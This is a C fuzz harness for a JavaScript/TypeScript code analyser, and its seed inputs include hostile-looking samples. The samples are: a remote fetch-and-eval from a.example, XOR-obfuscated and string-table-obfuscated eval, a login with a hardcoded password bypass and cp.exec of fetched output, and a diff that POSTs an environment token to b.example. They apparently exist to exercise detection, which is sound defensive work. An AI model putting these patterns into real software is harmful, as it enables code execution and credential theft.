/*
 * A JavaScript or TypeScript member that is all new, or the NEW of a pair. The publisher of the
 * release chooses every byte. First byte: low bit 0 = no OLD, bits 1-2 the language; then OLD up to
 * the first byte 0xff, then NEW.
 */
#include "fuzz.h"

#include "read/align.h"
#include "tool_seeds.h"

struct seen {
	struct read_out out; /* first */
	size_t limit;
	uint64_t sum; /* of all facts: the same input gives the same */
};

static uint32_t on_unit(struct read_out *o, const struct unit *u)
{
	(void)u;
	return o->n_units++;
}

static void mix(struct seen *s, struct str text)
{
	for (size_t i = 0; i < text.len; i++)
		s->sum = (s->sum ^ (uint8_t)text.p[i]) * 0x100000001b3u;
}

static void on_fact(struct read_out *o, const struct fact *f)
{
	struct seen *s = (struct seen *)o;

	FUZZ_CHECK(f->kind > FACT_NONE && f->kind < FACT_N && !(f->flags & ~(uint32_t)FACT_FLAGS_ALL));
	FUZZ_CHECK(f->unit == FACT_NO_UNIT || f->unit < o->n_units);
	FUZZ_CHECK(f->offset <= s->limit && f->length <= s->limit - f->offset);
	FUZZ_CHECK(f->key.len && f->key.len <= FACT_KEY_BYTES && f->value.len <= FACT_VALUE_BYTES &&
		f->detail.len <= FACT_DETAIL_BYTES && f->excerpt.len <= FACT_EXCERPT_BYTES);
	s->sum = s->sum * 31 + (uint64_t)f->kind * 7 + f->offset;
	mix(s, f->key);
	mix(s, f->value);
	mix(s, f->detail);
	mix(s, f->excerpt);
	o->n_facts++;
}

static void on_cover(struct read_out *o, enum cover_grade grade, uint64_t bytes, const char *why)
{
	(void)o;
	(void)grade;
	(void)bytes;
	(void)why;
}

static uint64_t analyse(enum language lang, struct str old, struct str new_, bool has_old)
{
	struct seen seen = {.out = {on_unit, on_fact, on_cover, 0, 0}, .limit = new_.len};
	struct budget budget = {.max_steps = 1 << 22, .max_bytes = 1 << 28, .max_members = 1000, .max_depth = 64};
	struct arena arena;
	struct read_in in = {.path = STR("x.js"), .old = cursor_of(old.p, old.len), .new_ = cursor_of(new_.p, new_.len),
		.has_old = has_old, .arena = &arena, .budget = &budget, .out = &seen.out};
	struct line_index *lines;
	struct unit_span *units;
	struct align al;
	enum status status;
	size_t n;

	arena_init(&arena, (size_t)2 << 30);
	(void)align_texts(&in, lang, has_old ? old : STR_NONE, new_, &al);
	(void)align_units(&in, lang, new_, old, &al, &units, &n);
	lines = line_index_make(&arena, new_);
	status = js_analyse(&in, lang, new_, 0, has_old ? old : STR_NONE, &al, units, n, lines);
	FUZZ_CHECK(status == STATUS_OK || status == STATUS_LIMIT);
	if (has_old && str_equal(old, new_))
		FUZZ_CHECK(seen.out.n_facts == 0);
	arena_release(&arena);
	return seen.sum;
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	static const enum language languages[] = {LANGUAGE_JAVASCRIPT, LANGUAGE_TYPESCRIPT, LANGUAGE_TSX, LANGUAGE_JAVASCRIPT};
	const uint8_t *cut = n > 1 ? memchr(bytes + 1, 0xff, n - 1) : NULL;
	enum language lang;
	struct str old, new_;
	bool has_old;

	if (n < 2)
		return 0;
	lang = languages[bytes[0] >> 1 & 3];
	has_old = bytes[0] & 1 && cut;
	old = cut ? str_view(bytes + 1, (size_t)(cut - bytes - 1)) : STR("");
	new_ = cut ? str_view(cut + 1, n - (size_t)(cut + 1 - bytes)) : str_view(bytes + 1, n - 1);
	FUZZ_CHECK(analyse(lang, old, new_, has_old) == analyse(lang, old, new_, has_old));
	(void)analyse(lang, new_, new_, true);
	return 0;
}

static void seed(void (*run)(const void *bytes, size_t n), const char *head, const char *old, const char *new_)
{
	char bytes[8192];
	int n = old ? snprintf(bytes, sizeof(bytes), "%s%s\xff%s", head, old, new_) : snprintf(bytes, sizeof(bytes), "%s%s", head, new_);

	run(bytes, (size_t)n);
}

void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	literal_seeds("01", "read/test_js.c read/test_js_flow.c read/test_js_fold.c read/test_js_ends.c read/test_units.c", run);
	call_seeds("js", run);
	/* Regular expressions: what is read of them, and what is wrong with them. */
	seed(run, "\x10", NULL, "eval('aB\\n12 \\u0416 x_y'.replace(/^(?<n>a)(?:b|B)$|\\b\\d+\\B|\\s\\S\\w\\W\\D/gim, '$1$&$$').replace(/[^\\d\\w\\s\\D\\W\\S\\b-\\]\\x41\\u0042\\cA\\0]/g, m => m));\n"
		  "eval('aaaa'.replace(/a{2}|a{1,}|a{1,2}?|a*?|a+?|a??|.(?=a)|.(?!b)/g, 'x')); eval('aXa'.match(/(a)X\\1/)[1] + 'ab'.search(/b/) + /(?<!a)b|(?<=a)b/.test('ab') + /\\k<n>(?<n>q)/.exec('q'));\n"
		  "eval('a.b,c'.split(/[.,]/).join('') + 'x'.replace(/\\p{L}/u, 'y') + 'x'.replace(/\\u{78}/u, 'y') + 'A\\nb'.replace(/a.b/is, 'z')); eval('x'.replace(new RegExp('(' + 'x', 'g'), '')); eval('x'.replace(new RegExp('[x', 'g'), ''));\n"
		  "eval('x'.replace(new RegExp('x{2,1}'), '')); eval('x'.replace(new RegExp('*'), '')); eval('x'.replace(new RegExp('\\\\'), '')); eval('x'.replace(new RegExp('a)'), '')); eval('x'.replace(new RegExp('(?<1>a)'), '')); eval('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.replace(/(a+)+$/, ''));\n"
		  "eval('abc'.replace(/(a)|(b)|(c)/g, (m, a, b, c) => a ? '1' : b ? '2' : '3') + 'abcabc'.replace(/(?:(a)|b|c){2,}/, '$1') + 'ab'.replace(/a|/g, '-') + 'x'.replace(/[\\]a-]/, 1) + 'x'.replace(/[]/, 1) + 'x'.replace(/[^]/, 1));");
	seed(run, "\x10", NULL, "const h = require('https'); h.get('https://a.example/x', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });");
	seed(run, "\x10", NULL, "function d(a,k){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return s}eval(d([98,107,98,117,115,47,54,46],7));for(;;){try{throw{a:[1,,2]}}catch({a:[b]}){break}finally{}}");
	seed(run, "\x10", NULL, "function _0x1a(){const a=['x','1y','2z','p'];_0x1a=function(){return a};return _0x1a()}function _0x2b(i){return _0x1a()[i-1]}(function(f,n){const z=f();while(!![]){try{if(parseInt(_0x2b(1))===n)break;z['push'](z['shift']())}catch(e){z['push'](z['shift']())}}}(_0x1a,1));Function(_0x2b(4))()");
	seed(run, "\x10", NULL, "class A extends B{#p=1;static{this.q=async function*(){for await(const{a=1,...r}of x)yield*r}}get z(){return this.#p}}new A().z?.[`a${1}b`];label:while(1){switch(x){case 1:continue label;default:break label}}");
	seed(run, "\x10", NULL, "eval('ab'.replace(/(a|b)*?\\b[^x-z]{0,3}(?=c)/gi,(m,a)=>m+a)+unescape('%61%u0062')+atob('YQ==')+Buffer.from('6162','hex').toString('base64')+JSON.parse('{\"a\":[1,true,null]}').a+Array.from({length:3},(_,i)=>i).reverse().sort().join(''))");
	seed(run, "\x10", NULL, "import a,{b as c}from'x';import*as d from\"y\";export*from'z';export default function(p,{q,r:[s]=[]},...t){return p&&q?.(s)??t[0]}var{e,f:{g}}=c;d[e+'']=g|=1,void 0,typeof h,delete i.j;x=<a b={c}>{d}<e/></a>");
	seed(run, "\x10", NULL, "exports.login=async(u,password)=>{const ok=password==='q7Rk-x'||await f(u);if(h(password).digest('hex')!=='9f86d081884c7d659a2feaa0c55ad015'){x()}else{return!0}let proxy=o.proxy||'http://a.example:1';cp.exec(`open ${(await fetch(p)).t}`);setTimeout(g(this,p),1)};");
	seed(run, "\x12", NULL, "enum E{A=1,B='x'}abstract class C<T>extends D{constructor(private readonly a:string,public b?:number){super()}m<K>(this:C,k:K=<any>a!):asserts k is K{return k as unknown satisfies K}}import x=require('fs');declare module'm'{}namespace N{export const q=1}");
	seed(run, "\x14", NULL, "const C=<T,>(p:{a:T})=><div onClick={()=>eval(p.a as string)}>{`t${p.a}`}</div>;");
	seed(run, "\x11", "const a = process.env.A_TOKEN;\nmodule.exports = a;\n", "const a = process.env.A_TOKEN;\nfetch('https://b.example', {method: 'POST', body: a});\nmodule.exports = a;\n");
}
